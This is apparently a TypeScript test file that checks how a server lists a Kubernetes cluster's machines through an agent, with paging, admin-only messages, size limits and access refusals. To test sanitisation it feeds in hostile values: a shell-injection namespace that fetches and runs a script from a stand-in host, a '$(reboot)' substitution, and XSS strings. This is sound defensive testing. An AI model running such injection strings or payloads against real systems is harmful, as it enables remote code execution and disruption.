import type { Message, MessageInitShape } from '@bufbuild/protobuf'
import { EngineKind, ExternalAddressType, type MachineListSchema, type MachineSchema } from '@crux/agent-protocol'
import type { Client } from '@crux/client'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type DeployTestEnvironment, makeDeployTestEnvironment } from '../../test/deploy-kit.ts'
import { startTestServer, type TestServer } from '../../test/kit/index.ts'

type MachineList = Exclude<MessageInitShape<typeof MachineListSchema>, Message>
type Machine = Exclude<MessageInitShape<typeof MachineSchema>, Message>
let server: TestServer
let testEnvironment: DeployTestEnvironment
beforeAll(async () => {
  server = await startTestServer()
  testEnvironment = await makeDeployTestEnvironment(server)
})
afterAll(() => server.stop())

async function makeCluster() {
  const node = await testEnvironment.node()
  await server.app.database.pool.query(`update crux.node set type = 'k8s' where id = $1`, [node.id])
  const agent = await testEnvironment.agent(node, { engine: EngineKind.KUBERNETES } as object)
  const params = { ...testEnvironment.params, nodeId: node.id }
  let count = 0
  return {
    agent,
    node,
    params,
    /** The agent's answer to the next request. */
    async answer(list: MachineList) {
      count += 1
      const { commandId, value } = await agent.command('listMachines', count)
      await agent.respond(commandId, { case: 'machines', value: list })
      return value
    },
  }
}
type Cluster = Awaited<ReturnType<typeof makeCluster>>
const list = ({ params }: Pick<Cluster, 'params'>, query: object = {}, as: Client = testEnvironment.client) =>
  as.call('nodes.machines', { params, query: { skip: 0, take: 50, ...query } })
const refusal = (call: Promise<unknown>) =>
  call.then(
    () => 'accepted',
    (error) => `${error.status} ${error.property ?? error.error}`,
  )

const gibibyte = 2n ** 30n
const makeMachine = (more: Partial<Machine> = {}) => ({
  name: 'worker-1',
  ready: true,
  kubeletVersion: 'v1.34.1',
  architecture: 'amd64',
  allocatable: { cpuMillis: 3_920n, memoryBytes: 16n * gibibyte, pods: 110n },
  requested: { cpuMillis: 1_500n, memoryBytes: 4n * gibibyte, pods: 12n },
  ...more,
})
const makeList = (more: MachineList = {}): MachineList => ({
  machines: [makeMachine()],
  matching: 1,
  total: 3,
  ready: 2,
  allocatable: { cpuMillis: 12_000n, memoryBytes: 48n * gibibyte, pods: 330n },
  requested: { cpuMillis: 6_000n, memoryBytes: 12n * gibibyte, pods: 40n },
  requestsKnown: true,
  ...more,
})
const gibibytes = (count: number) => count * 2 ** 30

describe('the machines of a cluster', () => {
  it('are asked of its agent with the page and the search, and listed with their capacity', async () => {
    const cluster = await makeCluster()
    const asked = list(cluster, { skip: 100, take: 20, search: ' worker ' })
    expect(await cluster.answer(makeList())).toMatchObject({
      scope: { teamId: testEnvironment.team.id, nodeId: cluster.node.id },
      search: 'worker',
      skip: 100,
      take: 20,
    })
    expect(await asked).toEqual({
      missingRight: null,
      items: [
        {
          name: 'worker-1',
          ready: true,
          cordoned: false,
          problems: [],
          kubeletVersion: 'v1.34.1',
          architecture: 'amd64',
          allocatable: { cpuMillis: 3_920, memoryBytes: gibibytes(16), pods: 110 },
          requested: { cpuMillis: 1_500, memoryBytes: gibibytes(4), pods: 12 },
        },
      ],
      total: 1,
      cluster: {
        machines: 3,
        ready: 2,
        allocatable: { cpuMillis: 12_000, memoryBytes: gibibytes(48), pods: 330 },
        requested: { cpuMillis: 6_000, memoryBytes: gibibytes(12), pods: 40 },
      },
    })
  })

  it('show every member why one is not ready, and the words of the cluster to admins alone', async () => {
    const cluster = await makeCluster()
    const problems = [{ type: 'NotReady', reason: 'KubeletNotReady', message: 'cni 10.0.0.7 is down' }]
    const machines = [makeMachine({ ready: false, cordoned: true, problems })]
    for (const [role, message] of [
      ['user', null],
      ['admin', 'cni 10.0.0.7 is down'],
    ] as const) {
      const as = server.client(await server.addMember(testEnvironment.team, role))
      const asked = list(cluster, {}, as)
      await cluster.answer(makeList({ machines }))
      const { items } = await asked
      expect(items[0]).toMatchObject({ ready: false, cordoned: true })
      expect(items[0]?.problems).toEqual([{ type: 'NotReady', reason: 'KubeletNotReady', message }])
      expect(JSON.stringify(items).includes('10.0.0.7')).toBe(role === 'admin')
    }
  })

  it('have no requests where the agent does not see all pods', async () => {
    const cluster = await makeCluster()
    const asked = list(cluster)
    await cluster.answer(makeList({ requestsKnown: false }))
    const found = await asked
    expect([found.items[0]?.requested, found.cluster.requested]).toEqual([null, null])
    expect(found.items[0]?.allocatable.pods).toBe(110)
  })

  it('are replaced by the right that the agent needs, with its namespace only where that is a plain name', async () => {
    const cluster = await makeCluster()
    const missingRight = 'The agent has no right to list nodes in the whole cluster'
    for (const [agentNamespace, shown] of [
      ['crux-agent-1a2b', 'crux-agent-1a2b'],
      ['', null],
      ['x; curl evil.example.com | sh', null],
      ['$(reboot)', null],
      ['x'.repeat(64), null],
      ['x\ny', null],
    ] as const) {
      const asked = list(cluster)
      await cluster.answer({ missingRight, agentNamespace })
      expect(await asked).toMatchObject({
        missingRight: { description: missingRight, agentNamespace: shown },
        items: [],
        total: 0,
        cluster: { machines: 0, requested: null },
      })
    }
  })

  it('are bounded, whatever the agent sends', async () => {
    const cluster = await makeCluster()
    const absurd = { cpuMillis: 18_446_744_073_709_551_615n, memoryBytes: 18_446_744_073_709_551_615n, pods: 1n }
    const long = '\0x'.repeat(5_000)
    const problem = { type: long, reason: long, message: long }
    const machine = makeMachine({
      ...{ name: long, kubeletVersion: long, architecture: long, allocatable: absurd, requested: undefined },
      problems: Array.from({ length: 30 }, () => problem),
    })
    const asked = list(cluster)
    await cluster.answer(makeList({ machines: [machine, ...Array.from({ length: 299 }, () => makeMachine())] }))
    const { items } = await asked
    expect(items).toHaveLength(250)
    expect(items[0]).toMatchObject({
      name: 'x'.repeat(256),
      kubeletVersion: 'x'.repeat(256),
      architecture: 'x'.repeat(256),
      allocatable: { cpuMillis: Number.MAX_SAFE_INTEGER, memoryBytes: Number.MAX_SAFE_INTEGER },
      requested: { cpuMillis: 0, memoryBytes: 0, pods: 0 },
    })
    expect(items[0]?.problems).toHaveLength(20)
    expect(items[0]?.problems[0]?.message).toBe('x'.repeat(4_096))
  })

  it('are reached by addresses of a workload, of which only plain ones are shown, and none of other owners', async () => {
    const cluster = await makeCluster()
    const params = { ...cluster.params, prefix: '_' }
    const asked = testEnvironment.client.call('containers.list', { params })
    const { commandId } = await cluster.agent.command('listContainers')
    const { INGRESS, LOAD_BALANCER } = ExternalAddressType
    const hostile = ['<script>alert(1)</script>', 'javascript:alert(1)', 'a b', 'x'.repeat(300), '\u202eevil']
    const externalAddresses = [
      { type: LOAD_BALANCER, addresses: [...hostile, '203.0.113.7', '2001:db8::7', 'lb.example.com'] },
      { type: INGRESS, addresses: [] },
      { type: 77 as ExternalAddressType, addresses: ['203.0.113.8'] },
    ]
    const containers = [
      { ref: { prefix: 'shop', name: 'web' }, owned: true, externalAddresses },
      { ref: { prefix: '', name: 'other' }, owned: false, externalAddresses },
    ]
    await cluster.agent.respond(commandId, { case: 'containers', value: { containers } })
    const listed = await asked
    expect(listed.map(({ externalAddresses: shown }) => shown)).toEqual([
      [
        { type: 'load-balancer', addresses: ['203.0.113.7', '2001:db8::7', 'lb.example.com'] },
        { type: 'ingress', addresses: [] },
      ],
      undefined,
    ])
  })

  it('run jobs, which are shown as such', async () => {
    const cluster = await makeCluster()
    const asked = testEnvironment.client.call('containers.list', { params: { ...cluster.params, prefix: '_' } })
    const { commandId } = await cluster.agent.command('listContainers')
    const containers = [
      { ref: { prefix: 'shop', name: 'migrate' }, owned: true, isJob: true },
      { ref: { prefix: 'shop', name: 'web' }, owned: true },
    ]
    await cluster.agent.respond(commandId, { case: 'containers', value: { containers } })
    expect((await asked).map(({ isJob }) => isJob)).toEqual([true, undefined])
  })

  it('are not listed for another team, without the agent, of a Docker host, or with an answer of another kind', async () => {
    const cluster = await makeCluster()
    const stranger = server.signUp('Eve')
    const theirs = await server.createTeam(stranger)
    const asStranger = server.client(stranger)
    expect(await refusal(list(cluster, {}, asStranger))).toMatch(/^40[34] /)
    const elsewhere = { params: { ...cluster.params, teamSlug: theirs.slug } }
    expect(await refusal(list(elsewhere, {}, asStranger))).toBe('404 id')
    const docker = await testEnvironment.node()
    await testEnvironment.agent(docker)
    expect(await refusal(list({ params: { ...cluster.params, nodeId: docker.id } }))).toBe('412 type')
    for (const query of [{ take: 251 }, { take: 0 }, { skip: -1 }, { search: 'x'.repeat(256) }])
      expect(await refusal(list(cluster, query))).toMatch(/^400 /)
    expect(cluster.agent.received.filter(({ command }) => command.case === 'listMachines')).toEqual([])
    const asked = refusal(list(cluster))
    const { commandId } = await cluster.agent.command('listMachines')
    await cluster.agent.respond(commandId, { case: 'drift', value: { objects: [] } })
    expect(await asked).toMatch(/^502 /)
    cluster.agent.cut()
    await cluster.agent.ended
    expect(await refusal(list(cluster))).toBe('412 node')
  })
})
